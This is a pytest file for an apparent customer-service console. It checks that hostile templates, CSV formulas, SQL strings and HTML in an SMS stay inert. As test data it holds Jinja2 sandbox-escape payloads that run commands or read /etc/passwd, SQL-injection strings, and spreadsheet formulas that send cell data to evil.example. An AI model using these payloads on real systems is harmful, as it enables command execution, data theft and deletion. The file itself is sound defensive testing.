"""Fault 5, hostile content: injected templates, markup, formulas and SQL stay inert.

- A lead-edited script override (``templates_dir``) that tries to escape the Jinja2
  sandbox, read files, run commands or loop for ever: the agent gets the plain fallback,
  no command runs, nothing leaks; customer data that looks like a template is shown as typed.
- Notes that are OWASP CSV-injection vectors come out of the CSV and XLSX exports inert.
- SQL-looking text in the phone/search fields and in export filters finds nothing and
  changes nothing; stored as text, it comes back byte for byte.
- HTML in an SMS shows as text in the window, in the table, its labels and its tooltip
  (read-only GUI checks).
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from qt_helpers import show_exposed
from sqlalchemy import func, select, text, update
from test_ui_support import case_one_template  # noqa: F401 - a fixture

from console import audit
from console.calls import WrapUp, record_call
from console.errors import UserError
from console.export import ExportFilters, ExportRequest, run_export
from console.lookup import lookup
from console.models import Call
from console.models.customer import Customer, Notification, Phone
from console.scenarios import demo_dir, import_paths
from console.suggest import suggest_for

T0 = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)
SCENARIO = demo_dir() / "01-mpro-trial-billed-after-notice.yaml"
PHONE = "0912-345-678"
SQLI = ["'; DROP TABLE phones; --", "0912345678' OR '1'='1", "%' OR 1=1 --", "1; DELETE FROM customers",
        "\" OR \"\"=\"", "0912345678)); DROP TABLE calls;--", "%", "_", "*"]
OWASP = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
         "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
         "'; DELETE FROM calls; --", "<script>alert(1)</script>"]
HOSTILE_TEMPLATES = {
    "mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}",
    "self": "{{ self._TemplateReference__context }}{{ self.__init__.__globals__ }}",
    "include_abs": "{% include '/etc/passwd' %}",
    "include_up": "{% include '../../../../etc/passwd' %}",
    "format": "{{ '{0.__class__.__init__.__globals__}'.format(cycler) }}",
    "loop": "{% for i in range(10**7) %}{% for j in range(10**7) %}{% endfor %}{% endfor %}",
    "big": "{{ 'x' * 10**9 }}",
    "attr": "{{ (cycler|attr('__init__')|attr('__globals__'))['os'].system('touch PWNED') }}",
}


@pytest.fixture(autouse=True)
def _key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(audit.KEY_ENV, "hostile-key")


@pytest.fixture
def loaded(ctx):  # type: ignore[no-untyped-def]
    assert import_paths(ctx.customers, [SCENARIO]).ok
    return ctx


def _findings_codes(ctx) -> list[str]:  # type: ignore[no-untyped-def]
    with ctx.customers.session() as s:
        view = lookup(s, PHONE)
    return [f.code for f in suggest_for(view, at=T0).findings]


@pytest.mark.parametrize("name", sorted(HOSTILE_TEMPLATES))
def test_hostile_script_override_is_inert(loaded, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.chdir(tmp_path)
    templates = tmp_path / "templates"
    with loaded.customers.session() as s:
        view = lookup(s, PHONE)
    at = datetime(2009, 5, 12, 6, 30, tzinfo=UTC)
    codes = [f.code for f in suggest_for(view, at=at).findings]
    assert codes, "the scenario should produce findings"
    for lang in ("en", "zh_TW"):
        (templates / lang).mkdir(parents=True, exist_ok=True)
        for code in [*codes, "generic"]:
            (templates / lang / f"{code}.j2").write_text(HOSTILE_TEMPLATES[name], encoding="utf-8")
    plain = suggest_for(view, at=at)
    report = suggest_for(view, at=at, templates_dir=templates)
    assert not (tmp_path / "PWNED").exists()
    scripts = [sg.script for sg in report.suggestions]
    for sc in scripts:
        assert "root:" not in sc and "__globals__" not in sc and "<class" not in sc and "os.popen" not in sc
    # Refused whole: the agent reads exactly what any broken override gives, the shipped script.
    for lang in ("en", "zh_TW"):
        for code in [*codes, "generic"]:
            (templates / lang / f"{code}.j2").write_text("{{ broken", encoding="utf-8")
    fallback = [sg.script for sg in suggest_for(view, at=at, templates_dir=templates).suggestions]
    assert scripts == fallback == [sg.script for sg in plain.suggestions]
    # The same folder with a benign override is used: the hostile one really ran (and was refused).
    for lang in ("en", "zh_TW"):
        for code in [*codes, "generic"]:
            (templates / lang / f"{code}.j2").write_text("OVERRIDE {{ 1 + 1 }}", encoding="utf-8")
    assert all(sg.script == "OVERRIDE 2" for sg in suggest_for(view, at=at, templates_dir=templates).suggestions)


def test_customer_data_that_looks_like_a_template_is_shown_as_typed(loaded) -> None:
    with loaded.customers.session() as s, s.begin():
        s.execute(update(Customer).values(name="{{ 7*7 }}{% raw %}x"))
    with loaded.customers.session() as s:
        view = lookup(s, PHONE)
    report = suggest_for(view, at=datetime(2009, 5, 12, 6, 30, tzinfo=UTC))
    joined = "\n".join(sg.script for sg in report.suggestions)
    assert "{{ 7*7 }}" in joined and "49 " not in joined


@pytest.mark.parametrize("needle", SQLI)
def test_sql_looking_phone_is_inert(loaded, needle: str) -> None:
    with loaded.customers.session() as s:
        before = (s.scalar(select(func.count()).select_from(Phone)), s.scalar(select(func.count()).select_from(Customer)))
        with pytest.raises(UserError) as info:
            lookup(s, needle)
        assert "\n" not in str(info.value)
    with loaded.customers.session() as s:
        assert (s.scalar(select(func.count()).select_from(Phone)),
                s.scalar(select(func.count()).select_from(Customer))) == before


def test_hostile_notes_round_trip_and_exports_are_inert(ctx, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from console.auth import Principal

    lead = Principal("L001", "Lin Lead", "lead", None)
    ids = {}
    for i, note in enumerate(OWASP + SQLI):
        ids[note] = record_call(ctx, WrapUp(customer_id=f"C{i}", outcome="resolved", started_at=T0, saved_at=T0,
                                            notes=note, phone="+886912345678"))
    with ctx.journal.session() as s:
        for note, call_id in ids.items():
            stored = s.get(Call, call_id).notes
            assert stored == note.strip().replace("\r", "\n").strip()  # as typed, minus surrounding space
        assert s.scalar(select(func.count()).select_from(Call)) == len(ids)  # nothing dropped or deleted
    # SQL-looking export filters are values, not SQL.
    for agent in SQLI:
        run_export(ctx, lead, ExportRequest("csv", tmp_path / "f.csv", ExportFilters(agents=(agent,)), overwrite=True))
        with (tmp_path / "f.csv").open(encoding="utf-8-sig") as fh:
            assert len(list(csv.DictReader(fh))) == 0
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    run_export(ctx, lead, ExportRequest("csv", tmp_path / "x.csv"))
    raw = (tmp_path / "x.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    cells = [c for r in rows[1:] for c in r]
    assert len(rows) - 1 == len(ids)
    bad = [c for c in cells if c.startswith(dangerous)]
    assert not bad, bad[:5]
    notes_cells = {c for c in cells if "cmd|" in c or "HYPERLINK" in c or "IMPORTXML" in c or "1+1" in c}
    assert notes_cells and all(c.startswith("'") for c in notes_cells), notes_cells
    assert "+886912345678" not in raw  # masked by default
    run_export(ctx, lead, ExportRequest("xlsx", tmp_path / "x.xlsx"))
    wb = load_workbook(tmp_path / "x.xlsx")
    values = [c.value for row in wb.active.iter_rows(min_row=2) for c in row]
    assert not any(c.data_type == "f" for row in wb.active.iter_rows() for c in row), "a formula cell"
    strings = [v for v in values if isinstance(v, str)]
    assert not [v for v in strings if v.startswith(dangerous)]
    assert "+886912345678" not in " ".join(strings)


def test_sql_text_in_a_raw_journal_query_is_only_data(ctx) -> None:
    """Belt and braces: the stored note is still there and the tables exist after all of the above."""
    call_id = record_call(ctx, WrapUp(customer_id="C1", outcome="resolved", started_at=T0, saved_at=T0,
                                      notes="x'); DROP TABLE calls; --"))
    with ctx.journal.session() as s:
        assert s.execute(text("SELECT notes FROM calls WHERE id = :i"), {"i": call_id}).scalar_one().startswith("x')")


# -- the window: HTML in an SMS is text ----------------------------------------------------

SMS_HTML = "<b>免費</b>試用<img src='file:///etc/passwd'><a href='http://evil.example'>點此</a><font color=white>hidden</font>"


@pytest.fixture
def html_window(qtbot, customer_url: str, journal_url: str, case_one_template: Path):  # type: ignore[no-untyped-def]  # noqa: F811
    from test_ui_support import CALL_AT, SMS_ID, copy_case_one

    from console.context import ConsoleContext
    from console.db import open_store
    from console.settings import load_settings
    from ui.app import make_window

    copy_case_one(case_one_template, customer_url)
    store = open_store(customer_url, "customer")
    with store.session() as s, s.begin():
        s.execute(update(Notification).where(Notification.id == SMS_ID).values(text=SMS_HTML))
    store.dispose()
    context = ConsoleContext(load_settings(db=customer_url, journal=journal_url, agent="A001"), clock=lambda: CALL_AT)
    w = make_window(context, "en")
    qtbot.addWidget(w)
    show_exposed(qtbot, w)
    with qtbot.waitSignal(w.popped, timeout=15000):
        w.pop("0912-345-678")
    yield w
    context.close()


def _text_column(model) -> int:  # type: ignore[no-untyped-def]
    from PySide6.QtCore import Qt

    for col in range(model.columnCount()):
        for row in range(model.rowCount()):
            if "免費" in str(model.index(row, col).data(Qt.ItemDataRole.EditRole) or model.index(row, col).data() or ""):
                return col
    raise AssertionError("the SMS text column was not found")


@pytest.mark.gui
def test_html_in_an_sms_shows_as_text(qtbot, html_window) -> None:  # type: ignore[no-untyped-def]
    from PySide6.QtCore import Qt
    from PySide6.QtWidgets import QLabel, QPlainTextEdit

    model = html_window.notifications.model
    col = _text_column(model)
    row = next(r for r in range(model.rowCount()) if "免費" in str(model.index(r, col).data()))
    shown = model.index(row, col).data(Qt.ItemDataRole.DisplayRole)
    assert "<b>免費</b>" in shown  # the raw string, tags and all: nothing interpreted
    # The detail box under the pane shows the SMS in full: a plain-text editor, tags as typed.
    (detail,) = [w for w in html_window.findChildren(QPlainTextEdit) if "免費" in w.toPlainText()]
    assert "<b>免費</b>" in detail.toPlainText()
    labels = [lb for lb in html_window.findChildren(QLabel) if "<" in lb.text() and "免費" in lb.text()]
    for lb in labels:  # any label quoting it (a script, a summary) shows it as plain text too
        assert lb.textFormat() == Qt.TextFormat.PlainText, lb.objectName()


@pytest.mark.gui
def test_sms_tooltip_is_not_rich_text(qtbot, html_window) -> None:  # type: ignore[no-untyped-def]
    from PySide6.QtCore import Qt
    from PySide6.QtGui import Qt as GuiQt

    model = html_window.notifications.model
    col = _text_column(model)
    row = next(r for r in range(model.rowCount()) if "免費" in str(model.index(r, col).data()))
    tip = model.index(row, col).data(Qt.ItemDataRole.ToolTipRole)
    # Either not rich text at all, or the SMS escaped as plain text: no live tag survives.
    if GuiQt.mightBeRichText(tip):
        assert "<img" not in tip and "<a " not in tip and "<font" not in tip and "<b>" not in tip
        assert "&lt;img src='file:///etc/passwd'&gt;" in tip
